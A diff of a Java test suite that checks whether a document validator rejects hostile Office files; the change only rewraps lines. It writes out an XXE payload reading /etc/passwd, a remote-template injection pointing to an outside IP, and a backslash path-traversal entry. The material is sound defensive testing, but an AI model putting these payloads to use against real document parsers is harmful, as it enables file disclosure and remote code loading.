@@ -103,8 +103,8 @@ class HostileFilesTest {
                 "表.xlsx",
                 xlsxWith(
                         "xl/styles.xml",
-                        text(
-                                "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><a>&e;</a>")),
+                        text("<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY e SYSTEM"
+                                + " \"file:///etc/passwd\">]><a>&e;</a>")),
                 ErrorCode.FILE_DAMAGED,
                 xlsxWith("xl/styles.xml", text("<?xml version=\"1.0\"?><a/>"))));
         all.add(new Hostile(
@@ -164,19 +164,20 @@ class HostileFilesTest {
         all.add(new Hostile(
                 "a way with backslashes", "文.docx", docxWith("word\\..\\x", text("x")), ErrorCode.FILE_DAMAGED, docx));
         all.add(new Hostile("two parts of one name", "文.docx", Samples.zipWithTwins(), ErrorCode.FILE_DAMAGED, docx));
-        all.add(
-                new Hostile(
-                        "a template fetched from outside",
-                        "文.docx",
-                        docxWith(
-                                "word/_rels/settings.xml.rels",
-                                text(
-                                        "<Relationships><Relationship Type=\"http://x/attachedTemplate\" TargetMode=\"External\" Target=\"http://203.0.113.9/t.dotm\"/></Relationships>")),
-                        ErrorCode.FILE_ACTIVE,
-                        docxWith(
-                                "word/_rels/document.xml.rels",
-                                text(
-                                        "<Relationships><Relationship Type=\"http://x/hyperlink\" TargetMode=\"External\" Target=\"http://203.0.113.9/\"/></Relationships>"))));
+        all.add(new Hostile(
+                "a template fetched from outside",
+                "文.docx",
+                docxWith(
+                        "word/_rels/settings.xml.rels",
+                        text("<Relationships><Relationship Type=\"http://x/attachedTemplate\""
+                                + " TargetMode=\"External\""
+                                + " Target=\"http://203.0.113.9/t.dotm\"/></Relationships>")),
+                ErrorCode.FILE_ACTIVE,
+                docxWith(
+                        "word/_rels/document.xml.rels",
+                        text("<Relationships><Relationship Type=\"http://x/hyperlink\""
+                                + " TargetMode=\"External\""
+                                + " Target=\"http://203.0.113.9/\"/></Relationships>"))));
         all.add(new Hostile(
                 "a link that runs a program",
                 "表.xlsx",
